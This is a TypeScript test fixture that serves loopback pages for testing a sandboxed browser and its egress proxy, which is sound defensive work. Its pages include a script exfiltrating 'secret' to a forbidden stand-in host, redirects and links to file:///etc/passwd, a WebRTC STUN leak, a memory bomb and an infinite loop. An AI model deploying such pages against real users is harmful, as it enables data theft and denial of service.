import { randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { Duplex } from 'node:stream';

/**
 * Test sites for browse.page, on loopback only: `site` (pages of every kind, below) and
 * `forbidden` (a host the egress policy refuses; it counts every request that reaches it,
 * which must stay zero). Pages name hosts as `*.test`, which only Cordon's static resolver
 * knows; Chromium resolves nothing itself.
 */
export interface TestSite {
  readonly address: string;
  readonly port: number;
  /** Paths requested, in order. */
  readonly seen: string[];
  /** Header names of every request, in order. */
  readonly headerNames: string[][];
  /** Websocket upgrade requests that reached this server. */
  upgrades: number;
  close(): Promise<void>;
}

export interface BrowserSites {
  readonly site: TestSite;
  readonly forbidden: TestSite;
  /** `http://site.test:<port>` */
  readonly siteUrl: string;
  readonly forbiddenUrl: string;
  /** UDP datagrams (STUN, from WebRTC) that reached 127.0.0.4; none may. */
  readonly udp: { readonly port: number; datagrams: number };
  close(): Promise<void>;
}

type Pages = Record<string, (req: IncomingMessage, res: ServerResponse, sites: { siteUrl: string; forbiddenUrl: string; port: number; udpPort: number }) => void>;

const html = (res: ServerResponse, body: string, headers: Record<string, string> = {}): void => {
  res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', ...headers });
  res.end(`<!doctype html><html><head><meta charset="utf-8">${body}</html>`);
};

const PAGES: Pages = {
  // The acceptance page: a forbidden image and a forbidden fetch from script.
  '/leaky': (_req, res, s) =>
    html(res, `<title>Leaky page</title></head><body><h1>Quarterly report</h1><p>Revenue went up.</p><img src="${s.forbiddenUrl}/pixel.png"><script>fetch('${s.forbiddenUrl}/collect?d=secret').then(() => document.body.dataset.fetched = 'yes', () => document.body.dataset.fetched = 'failed');</script><a href="/plain">next page</a></body>`),
  // The same over https: the proxy sees only a tunnel (CONNECT) to the host, and refuses it.
  '/tunnel': (_req, res, s) => html(res, `<title>Tunnel</title></head><body><p>tunnelled</p><img src="${s.forbiddenUrl.replace('http:', 'https:')}/pixel.png"></body>`),
 // WebRTC gathers candidates by sending STUN over UDP, which no HTTP proxy carries.
  '/webrtc': (_req, res, s) =>
    html(res, `<title>RTC</title></head><body><p>rtc</p><script>const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.4:${s.udpPort}' }] }); pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o)); pc.onicegatheringstatechange = () => { if (pc.iceGatheringState === 'complete') { const p = document.createElement('p'); p.id = 'rtc-done'; p.textContent = 'gathered'; document.body.append(p); } };</script></body>`),
  '/plain': (_req, res) => html(res, '<title>Plain</title></head><body><main><p>Just a page.</p></main></body>'),
  '/redirect-out': (_req, res, s) => res.writeHead(302, { location: `${s.forbiddenUrl}/landing` }).end(),
  '/redirect-file': (_req, res) => res.writeHead(302, { location: 'file:///etc/passwd' }).end(),
  '/login': (_req, res) => {
    const value = randomBytes(8).toString('hex');
    html(res, `<title>Logged in</title></head><body><p>welcome</p></body>`, { 'set-cookie': `session=${value}; Path=/; HttpOnly` });
  },
  '/whoami': (req, res) => html(res, `<title>Who</title></head><body><p id="who">cookie: ${escape(req.headers.cookie ?? 'none')}</p></body>`),
  '/form': (_req, res) =>
    html(
      res,
      `<title>Form</title></head><body><h1>Search</h1><label for="q">Query</label><input id="q" name="q"><button id="go" onclick="document.getElementById('out').textContent = 'You searched for ' + document.getElementById('q').value">Search</button><p id="out"></p></body>`,
    ),
  '/local-links': (_req, res) =>
    html(res, `<title>Local links</title></head><body><a id="file" href="file:///etc/passwd">one</a> <a id="data" href="data:text/html,<h1>DATA-PAGE-MARK</h1>">two</a> <a id="chrome" href="chrome://version">three</a></body>`),
  '/download': (_req, res) => res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-disposition': 'attachment; filename="payload.bin"' }).end('binary payload'),
  '/download-link': (_req, res) => html(res, '<title>Downloads</title></head><body><a id="dl" href="/download" download>get it</a></body>'),
  '/memory-bomb': (_req, res) => html(res, '<title>Bomb</title></head><body><p>eating</p><script>setTimeout(() => { const a = []; for (;;) a.push(new Array(1 << 20).fill(Math.random())); }, 50);</script></body>'),
  '/loop': (_req, res) => html(res, '<title>Loop</title></head><body><p>spinning</p><script>setTimeout(() => { for (;;) {} }, 50);</script></body>'),
  '/dialogs': (_req, res) => html(res, `<title>Dialogs</title></head><body><p>after dialogs</p><script>alert('first'); confirm('second?'); prompt('third?');</script></body>`),
  '/popups': (_req, res) => html(res, `<title>Popups</title></head><body><p>opener</p><script>for (let i = 0; i < 5; i++) window.open('/plain?popup=' + i);</script></body>`),
  '/huge-dom': (_req, res) =>
    html(res, `<title>Huge</title></head><body><script>const b = document.body; for (let i = 0; i < 200000; i++) { const d = document.createElement('div'); d.textContent = 'row ' + i; b.appendChild(d); }</script></body>`),
  '/websocket': (_req, res, s) =>
    html(res, `<title>Socket</title></head><body><script>const ws = new WebSocket('ws://site.test:${s.port}/socket'); const done = (what) => { const p = document.createElement('p'); p.id = 'ws-done'; p.textContent = what; document.body.append(p); }; ws.onopen = () => done('ws open'); ws.onerror = () => done('ws failed');</script></body>`),
  '/direct-ip': (_req, res, s) => html(res, `<title>Direct</title></head><body><script>fetch('http://127.0.0.2:${s.port}/by-ip').catch(() => 0);</script></body>`),
  '/noise': (_req, res) =>
    html(
      res,
      `<title>Noise</title><style>body{margin:0}</style></head><body><canvas id="c" width="1280" height="800"></canvas><script>const c = document.getElementById('c').getContext('2d'); const img = c.createImageData(1280, 800); for (let i = 0; i < img.data.length; i++) img.data[i] = (Math.random() * 256) | 0; c.putImageData(img, 0, 0);</script></body>`,
    ),
};

function escape(text: string): string {
  return text.replace(/[&<>"]/g, (c) => `&#${c.charCodeAt(0)};`);
}

async function serve(address: string, handle: (req: IncomingMessage, res: ServerResponse, site: TestSite) => void): Promise<TestSite & { server: Server }> {
  const seen: string[] = [];
  const headerNames: string[][] = [];
  const server = createServer();
  const site = {
    address,
    port: 0,
    seen,
    headerNames,
    upgrades: 0,
    server,
    close: () =>
      new Promise<void>((done) => {
        server.close(() => done());
        server.closeAllConnections();
      }),
  };
  server.on('request', (req, res) => {
    seen.push(req.url ?? '');
    headerNames.push(Object.keys(req.headers));
    handle(req, res, site);
  });
  server.on('upgrade', (_req, socket: Duplex) => {
    site.upgrades += 1;
    socket.destroy();
  });
  await new Promise<void>((done, fail) => {
    server.once('error', fail);
    server.listen(0, address, () => done());
  });
  const addr = server.address();
  site.port = typeof addr === 'object' && addr !== null ? addr.port : 0;
  return site;
}

export async function startBrowserSites(): Promise<BrowserSites> {
  const socket = createSocket('udp4');
  const udp = { port: 0, datagrams: 0 };
  socket.on('message', () => void udp.datagrams++);
  await new Promise<void>((done) => socket.bind(0, '127.0.0.4', () => done()));
  udp.port = socket.address().port;
  let urls = { siteUrl: '', forbiddenUrl: '', port: 0, udpPort: udp.port };
  const site = await serve('127.0.0.2', (req, res) => {
    const path = new URL(req.url ?? '/', 'http://x').pathname;
    const page = PAGES[path];
    if (page === undefined) res.writeHead(404, { 'content-type': 'text/plain' }).end('not found');
    else page(req, res, urls);
  });
  const forbidden = await serve('127.0.0.3', (_req, res) => res.writeHead(200, { 'content-type': 'text/plain' }).end('you should not see this'));
  urls = { siteUrl: `http://site.test:${site.port}`, forbiddenUrl: `http://forbidden.test:${forbidden.port}`, port: site.port, udpPort: udp.port };
  return {
    site,
    forbidden,
    siteUrl: urls.siteUrl,
    forbiddenUrl: urls.forbiddenUrl,
    udp,
    async close() {
      socket.close();
      await Promise.all([site.close(), forbidden.close()]);
    },
  };
}
